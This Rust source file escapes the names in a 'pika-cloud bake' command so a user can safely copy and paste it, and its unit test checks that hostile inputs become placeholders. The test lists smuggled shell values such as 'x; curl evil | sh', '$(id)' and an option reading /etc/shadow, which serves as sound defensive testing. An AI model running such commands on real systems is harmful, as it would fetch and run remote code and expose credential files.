//! The command that makes an image anew, as a person may paste it.

/// Makes the image `to` of a project anew, of the base `from`. What an image says of itself is its maker's, and names may hold
/// anything: what is no plain word stands there as a placeholder.
pub(crate) fn bake_command(from: Option<&str>, to: &str, project: &str) -> String {
    let from = from.filter(|from| is_plain(from)).unwrap_or("BASE");
    let to = if is_plain(to) { to } else { "ALIAS" };
    let of_project = match project {
        "default" => String::new(),
        project if is_plain(project) => format!(" --project {project}"),
        _ => " --project PROJECT".to_owned(),
    };
    format!("pika-cloud bake --from {from} --to {to}{of_project}")
}

/// Whether a shell takes it for one word, and `bake` for no option.
pub(super) fn is_plain(text: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:+".contains(c);
    (1..=256).contains(&text.len()) && !text.starts_with('-') && text.chars().all(is_plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_to_paste_holds_no_word_that_is_more_than_a_word() {
        assert_eq!(bake_command(Some("debian/12"), "ci", "default"), "pika-cloud bake --from debian/12 --to ci");
        assert_eq!(bake_command(Some("d"), "ci", "p1"), "pika-cloud bake --from d --to ci --project p1");
        assert_eq!(bake_command(None, "ci", "default"), "pika-cloud bake --from BASE --to ci");
        let placeholders = "pika-cloud bake --from BASE --to ALIAS --project PROJECT";
        let long = "a".repeat(257);
        for foreign in
            ["x; curl evil | sh", "$(id)", "a b", "a\nb", "--file=/etc/shadow:/x", "'", "", "\u{202e}", &long]
        {
            assert_eq!(bake_command(Some(foreign), foreign, foreign), placeholders, "{foreign}");
        }
    }
}
